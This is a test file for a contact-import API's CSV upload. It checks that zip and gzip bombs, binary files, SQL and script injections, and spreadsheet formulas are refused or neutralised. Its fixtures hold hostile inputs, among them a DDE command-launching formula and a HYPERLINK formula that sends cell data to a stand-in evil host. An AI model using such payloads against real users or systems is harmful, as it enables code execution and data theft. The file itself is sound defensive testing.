import { deflateRawSync, gzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { testKernel, type TestTenant } from "../support/kernel.ts";
import { until } from "../support/until.ts";

// Files that are no address books. What may be stored for a hostile file: nothing, or the import with a reason.

const t = testKernel();
const MEGABYTE = 1024 * 1024;
const bytes = (text: string) => new TextEncoder().encode(text);
const utf16 = (text: string, mark = true) => new Uint8Array(Buffer.from((mark ? "\ufeff" : "") + text, "utf16le"));

let team: TestTenant;
beforeAll(async () => {
  team = await t.tenant();
});

const upload = (body: Uint8Array | ReadableStream, by = team) =>
  by.api("POST", "/imports?file_name=people.csv", body, { "content-type": "text/csv" });

/** Uploads, maps as suggested, runs to the end, and answers with the import. */
async function run(body: Uint8Array | ReadableStream, by: TestTenant) {
  const made = await upload(body, by);
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  const { id, detected } = made.body;
  const mapped = await by.api("PUT", `/imports/${id}/mapping`, { mapping: detected.suggested_mapping, options: {} });
  expect(mapped.status, JSON.stringify(mapped.body)).toBe(200);
  expect((await by.api("POST", `/imports/${id}/start`)).status).toBe(202);
  return await until(
    async () => {
      await t.drain("contacts_import");
      const { body: now } = await by.api("GET", `/imports/${id}`);
      return now.status === "running" ? null : now;
    },
    { what: "the import to end" },
  );
}

const emails = async (by: TestTenant) =>
  (await t.sql<{ email: string }[]>`select email from public.contacts where tenant_id = ${by.id} order by email`).map(
    (r) => r.email,
  );
const kept = async () =>
  (
    await t.sql<
      { n: number }[]
    >`select (select count(*) from public.imports where tenant_id = ${team.id})::int + (select count(*) from public.import_chunks where tenant_id = ${team.id})::int as n`
  )[0]!.n;

/** A zip of one member that unpacks to `megabytes` of nothing. */
function zipBomb(megabytes: number): Uint8Array {
  const packed = deflateRawSync(Buffer.alloc(megabytes * MEGABYTE));
  const head = Buffer.alloc(30 + 5);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(megabytes * MEGABYTE, 22);
  head.writeUInt16LE(5, 26);
  head.write("a.csv", 30);
  return new Uint8Array(Buffer.concat([head, packed]));
}

describe("refused at the door, and nothing is kept", () => {
  test.each<[string, () => Uint8Array, number, RegExp]>([
    ["an empty file", () => bytes(""), 422, /empty/],
    ["only line ends", () => bytes("\n\r\n\n"), 422, /no rows/],
    ["only a mark of byte order", () => Uint8Array.of(0xef, 0xbb, 0xbf), 422, /no rows/],
    ["only a header", () => bytes("Email,Name\n"), 422, /no rows/],
    ["a zip bomb that says it is CSV", () => zipBomb(64), 415, /zip/],
    ["an Excel workbook", () => Uint8Array.of(0x50, 0x4b, 3, 4, 20, 0, 6, 0), 415, /Excel/],
    ["an old Excel workbook", () => Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1), 415, /Excel/],
    ["a gzip bomb", () => new Uint8Array(gzipSync(Buffer.alloc(64 * MEGABYTE))), 415, /gzip/],
    ["a PDF", () => bytes("%PDF-1.7\n"), 415, /PDF/],
    [
      "NUL bytes between the text",
      () => bytes(`Email\n${"a\u0000b\u0000c@example.com\u0000\n".repeat(20)}`),
      415,
      /binary/,
    ],
    ["a picture", () => Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13), 415, /binary/],
    [
      "a million columns",
      () => bytes(`${"c,".repeat(1_000_000)}c\n${"x,".repeat(1_000_000)}x\n`),
      422,
      /columns|cannot be read/,
    ],
    [
      "501 columns",
      () => bytes(`${Array.from({ length: 501 }, (_, i) => `c${i}`).join(",")}\n${"x,".repeat(500)}x\n`),
      422,
      /500/,
    ],
  ])("%s", async (_, file, status, reason) => {
    const before = await kept();
    const answer = await upload(file());
    expect([answer.status, answer.body.detail]).toEqual([status, expect.stringMatching(reason)]);
    expect(answer.headers.get("content-type")).toContain("problem+json");
    expect(await kept()).toBe(before);
  });

  test("a single field of 10 MB, and one quote that is never closed, cost no more memory than the file", async () => {
    globalThis.gc?.();
    const before = process.memoryUsage().rss;
    for (const file of [
      `Email,Note\nada@example.com,${"x".repeat(10 * MEGABYTE)}\n`,
      `Email,Note\nada@example.com,"${"x\n".repeat(5 * MEGABYTE)}`,
    ]) {
      const team = await t.tenant();
      const answer = await upload(bytes(file), team);
      // Either the beginning already tells, or the import does; both by a reason.
      if (answer.status === 201) {
        const ended = await run(bytes(file), team);
        expect(["failed", "done"]).toContain(ended.status);
        if (ended.status === "failed") expect(ended.error).toMatch(/quotation mark|cannot be read/);
        else expect(ended.rejected + ended.created).toBe(1);
      } else expect([answer.status, answer.body.detail]).toEqual([422, expect.any(String)]);
    }
    expect(process.memoryUsage().rss - before).toBeLessThan(400 * MEGABYTE);
  });
});

describe("strange, yet readable", () => {
  test.each<[string, () => Uint8Array, string[]]>([
    [
      "a mark of byte order before a quoted header",
      () => bytes('\ufeff"Email";"Name"\n"a@example.com";"A"\n'),
      ["a@example.com"],
    ],
    [
      "semicolons with commas inside quotes",
      () => bytes('Email;Name\na@example.com;"Doe; Jane, ""JD"""\n'),
      ["a@example.com"],
    ],
    ["UTF-16 with its mark", () => utf16("Email\tName\r\na@example.com\tÄnne\r\n"), ["a@example.com"]],
    [
      "UTF-16 without one",
      () => utf16("Email,Name\r\na@example.com,Anne\r\nb@example.com,Bert\r\n", false),
      ["a@example.com", "b@example.com"],
    ],
    [
      "line ends of three kinds",
      () => bytes("Email,Name\r\na@example.com,A\nb@example.com,B\nc@example.com,C\rd@example.com,D\r\n"),
      ["a@example.com", "b@example.com", "c@example.com", "d@example.com"],
    ],
    [
      "Latin-1",
      () => Uint8Array.from([...Buffer.from("Email,Name\na@example.com,J\xf6rg\n", "latin1")]),
      ["a@example.com"],
    ],
    [
      "a stray quote in the middle of a field",
      () => bytes('Email,Name\na@example.com,5" nail\nb@example.com,B\n'),
      ["a@example.com", "b@example.com"],
    ],
    [
      "headers named like an object's own parts",
      () => bytes("Email,__proto__,constructor,toString\na@example.com,x,y,z\n"),
      ["a@example.com"],
    ],
  ])("%s", async (_, file, expected) => {
    const own = await t.tenant();
    const ended = await run(file(), own);
    expect([ended.status, ended.rejected]).toEqual(["done", 0]);
    expect(await emails(own)).toEqual(expected);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  test("rows with SQL, HTML and control characters are text, refused rows say why and in no other language", async () => {
    const own = await t.tenant();
    const sql = "'); drop table public.contacts; --";
    const ended = await run(
      bytes(
        `Email,First name,Company\na@example.com,"${sql}",<b>Co</b>\nb@example.com,"a\u0001b\u007f",x\nnot-an-address,C,\n,"<script>alert(1)</script>",\n`,
      ),
      own,
    );
    expect(ended.status).toBe("done");
    const rows =
      await t.sql`select first_name from public.contacts where tenant_id = ${own.id} and email = 'a@example.com'`;
    expect(rows[0]!.first_name).toBe(sql);
    const errors = await own.api("GET", `/imports/${ended.id}/errors.csv`);
    expect(errors.headers.get("content-type")).toContain("text/csv");
    expect(errors.headers.get("x-content-type-options")).toBe("nosniff");
    expect(errors.body).toContain("not-an-address");
    expect(errors.body).not.toMatch(/relation|violates|invalid input/);
  });
});

test("what a spreadsheet would run is written so that it does not, in the export and in the rows that were refused", async () => {
  const own = await t.tenant();
  const formulas = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("https://evil.example?"&A1)',
    // Cells of another locale, which ends them at semicolons, and of a reader that knows no quotes.
    "Sales;=1+1",
    'Sales;"=1+1',
    "Sales; +1",
    "Sales\n=1+1",
    "Sales\t@SUM(1)",
  ];
  for (const [i, formula] of formulas.entries()) {
    const made = await own.api("POST", "/contacts", {
      email: `f${i}@example.com`,
      first_name: formula,
      title: formula,
      company_name: `${formula}${i}`,
      tags: [formula.trim()],
      pipeline_stage: formula.trim(),
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
  }
  const file = `Email,First name\n${formulas.map((f) => `"${f.replaceAll('"', '""')}","${f.replaceAll('"', '""')}"`).join("\n")}\n`;
  const ended = await run(bytes(file), own);
  expect(ended.rejected).toBe(formulas.length);
  for (const path of ["/contacts/export.csv", `/imports/${ended.id}/errors.csv`]) {
    const { body } = await own.api("GET", path);
    const cells = (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat();
    expect(cells.filter((c) => /^'[=+\-@\t\r]/.test(c)).length, path).toBeGreaterThan(formulas.length);
    expect(
      cells.filter((c) => /^[=+\-@\t\r]/.test(c)),
      path,
    ).toEqual([]);
    const anywhere = body.split(/[,;|\t\r\n]/).map((c: string) => c.replace(/^[ "]+/, ""));
    expect(
      anywhere.filter((c: string) => /^[=+\-@]/.test(c)),
      path,
    ).toEqual([]);
  }
});

test("a file that goes on for ever is stopped at its limit's pace: pieces in the database, not in memory", async () => {
  const own = await t.tenant();
  const before = process.memoryUsage().rss;
  let sent = 0;
  const line = bytes(`${"x".repeat(99)}\n`.repeat(10_000));
  const endless = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent > 48 * MEGABYTE) return controller.error(new Error("the caller hangs up"));
      sent += line.byteLength;
      controller.enqueue(line);
    },
  });
  const answer = await upload(endless, own);
  expect([answer.status, answer.body.code]).toEqual([400, "bad_request"]);
  expect((await t.sql`select 1 from public.import_chunks where tenant_id = ${own.id}`).length).toBe(0);
  expect((await t.sql`select 1 from public.imports where tenant_id = ${own.id}`).length).toBe(0);
  expect(process.memoryUsage().rss - before).toBeLessThan(250 * MEGABYTE);
});
